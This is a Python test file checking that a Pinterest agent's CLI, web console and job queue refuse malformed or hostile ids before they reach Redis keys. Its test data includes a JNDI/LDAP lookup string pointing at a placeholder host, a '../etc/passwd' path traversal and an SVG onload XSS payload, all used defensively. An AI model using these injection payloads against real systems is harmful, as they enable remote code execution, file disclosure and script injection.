"""Ids from outside never become Redis key names unless they have the one id shape
(``agents.ids``): CLI arguments, console routes, failure records of malformed messages and
envelopes refuse the others with one clear line."""

from __future__ import annotations

import json
import uuid
from collections.abc import Callable
from pathlib import Path

import pytest
from click.testing import CliRunner
from starlette.testclient import TestClient

from pinterest_agent.agents.ids import InvalidIdError, is_id, require_id
from pinterest_agent.providers.sandbox.server import SandboxServer
from pinterest_agent.queues.entry.cli import main
from pinterest_agent.queues.jobs.actors import PUBLISH_ACTOR
from pinterest_agent.queues.runtime import Runtime
from tests.conftest import Channel, RunningWorker
from tests.console_support import ORIGIN, console_app, log_in
from tests.helpers import dead_letters, enqueue_publish, post_payload, push_raw, wait_for
from tests.test_cli import cli, settings  # noqa: F401 - fixtures

HOSTILE = ["post\u202e1", "${jndi:ldap://evil.test/a}", "a b", "", "-leading-dash", "a\nb",
           "x" * 129, "p\u0661", "../etc/passwd", "a*", "post:{x}"]


@pytest.mark.parametrize("value", HOSTILE)
def test_hostile_ids_are_refused(value: str) -> None:
    assert not is_id(value)
    with pytest.raises(InvalidIdError) as info:
        require_id(value, "post_id")
    assert info.value.code == "invalid_id" and info.value.field == "post_id"


@pytest.mark.parametrize("value", ["post-1", "brief_2025.10:a@b", "9" * 128, "a"])
def test_ordinary_ids_pass(value: str) -> None:
    assert require_id(value) == value


@pytest.mark.redis
@pytest.mark.parametrize("command", ["status", "wait", "retry"])
def test_the_cli_refuses_a_hostile_id_in_one_line(
    cli: CliRunner, command: str,  # noqa: F811
) -> None:
    result = cli.invoke(main, ["jobs", command, "post\u202e1"])
    assert result.exit_code == 1, result.output
    assert "Traceback" not in result.output
    errors = [line for line in result.output.splitlines() if line.startswith("error:")]
    assert len(errors) == 1 and "[invalid_id]" in errors[0]


@pytest.mark.redis
@pytest.mark.parametrize("path", ["/posts/post%E2%80%AE1", "/posts/%24%7Bjndi:ldap:x%7D",
                                  "/channels/sh%E2%80%AEop/boards"])
def test_the_console_answers_404_to_a_hostile_id(runtime: Runtime, path: str) -> None:
    with TestClient(console_app(runtime), base_url=ORIGIN) as client:
        log_in(client)
        response = client.get(path)
    assert response.status_code == 404


def _keys_with(runtime: Runtime, text: str) -> list[bytes]:
    return [key for key in runtime.redis_client.scan_iter(count=1000)
            if text.encode() in key]


@pytest.mark.redis
def test_a_malformed_post_with_a_hostile_id_is_recorded_under_its_message_id(
    fresh_sandbox: SandboxServer, channel: Channel, start_worker: Callable[..., RunningWorker],
) -> None:
    # Given a post whose post_id is a bidi override and a JNDI lookup
    running = start_worker()
    payload = {**post_payload(fresh_sandbox), "post_id": "${jndi:ldap://evil\u202e.test/a}"}
    message = enqueue_publish(running.broker, running.runtime.settings, payload)
    # Then it fails invalid_message, recorded under its message id: no key holds the id
    outcome = wait_for(lambda: running.runtime.store.outcomes.get(
        "post", f"message-{message.message_id}"))
    assert outcome["error"]["code"] == "invalid_message"
    assert _keys_with(running.runtime, "jndi") == []
    assert _keys_with(running.runtime, "\u202e") == []


@pytest.mark.redis
def test_an_envelope_with_a_hostile_message_id_is_refused(
    fresh_sandbox: SandboxServer, channel: Channel, start_worker: Callable[..., RunningWorker],
    tmp_path: Path,
) -> None:
    running = start_worker()
    queue = running.runtime.settings.queue_publisher
    envelope = {"queue_name": queue, "actor_name": PUBLISH_ACTOR,
                "args": [post_payload(fresh_sandbox, "hostile-message-id")], "kwargs": {},
                "options": {}, "message_id": "${jndi:ldap://x}" + str(uuid.uuid4())}
    dead_id = push_raw(running.broker, running.runtime.settings, queue, "hostile-1",
                       json.dumps(envelope).encode())
    job = wait_for(lambda: dead_letters(running.runtime).find(dead_id))
    assert job.reason_code == "invalid_envelope" and "message_id" in job.reason
    assert running.runtime.store.outcomes.get("post", "hostile-message-id") is None


# -- channel ids: one check at every door (agents.ids.require_channel_id) -----------------------

BAD_CHANNELS = ["a/b", "<svg onload=alert(1)>", "c" * 65, "shop eu"]
CHANNEL_DOORS = [
    ["channels", "add", "--channel", "{}", "--access-token", "pina_x"],
    ["channels", "connect", "--channel", "{}", "--no-browser"],
    ["channels", "boards", "{}"],
    ["insights", "run", "{}"], ["insights", "show", "{}"], ["insights", "next", "{}"],
    ["enqueue", "insights", "shop", "{}"],
    ["catalog", "sync", "feed.csv", "--channel", "{}"],
    ["catalog", "plan", "feed.csv", "--channel", "{}"],
    ["report", "{}", "--out", "report.html"],
    ["prompts", "report", "{}"],
]


@pytest.mark.redis
@pytest.mark.parametrize("channel", BAD_CHANNELS)
def test_every_cli_door_refuses_a_bad_channel_id_in_one_line(
    cli: CliRunner, runtime: Runtime, channel: str,  # noqa: F811
) -> None:
    for door in CHANNEL_DOORS:
        command = [part.replace("{}", channel) for part in door]
        result = cli.invoke(main, command)
        assert result.exit_code == 1, (command, result.output)
        assert "Traceback" not in result.output
        errors = [line for line in result.output.splitlines() if line.startswith("error:")]
        assert len(errors) == 1 and "[invalid_id] channel id" in errors[0], (command, errors)
    assert runtime.store.credentials.channel_ids() == []


@pytest.mark.redis
def test_the_console_connect_form_takes_the_ids_the_cli_takes(
    runtime: Runtime, fresh_sandbox: SandboxServer,
) -> None:
    with TestClient(console_app(runtime), base_url=ORIGIN) as client:
        token = log_in(client)
        for channel in BAD_CHANNELS:
            refused = client.post("/connect", data={"csrf_token": token, "channel_id": channel},
                                  headers={"Origin": ORIGIN}, follow_redirects=False)
            assert refused.status_code == 400, channel
            assert "is not a valid channel id: use 1 to 64" in refused.text
        # an id the messages and the CLI take (':' and '@' were refused here before)
        taken = client.post("/connect", data={"csrf_token": token, "channel_id": "shop:eu@1"},
                            headers={"Origin": ORIGIN}, follow_redirects=False)
        assert taken.status_code == 303


def test_tokens_for_a_bad_channel_id_are_refused_before_any_request() -> None:
    from pinterest_agent.queues.connect import import_tokens

    class NoRuntime:  # any attribute read would fail the test: nothing may be fetched
        def __getattr__(self, name: str) -> None:
            raise AssertionError(f"runtime.{name} was used")

    with pytest.raises(InvalidIdError):
        import_tokens(NoRuntime(), "a/b", access_token="pina_x",  # type: ignore[arg-type]
                      refresh_token=None, expires_in_s=60)


def test_a_brief_id_of_the_longest_channel_and_a_long_item_is_still_an_id() -> None:
    from pinterest_agent.agents.catalog.briefs import brief_id
    from pinterest_agent.agents.ids import MAX_CHANNEL_ID_CHARS, require_channel_id

    channel = require_channel_id("c" * MAX_CHANNEL_ID_CHARS)
    brief = brief_id(channel, "x" * 200, 999)
    assert is_id(brief) and is_id(f"{brief}.r{2**42}")
    assert brief_id("shop", "LT-100", 1) == "shop.LT-100.v1"  # short ones are unchanged
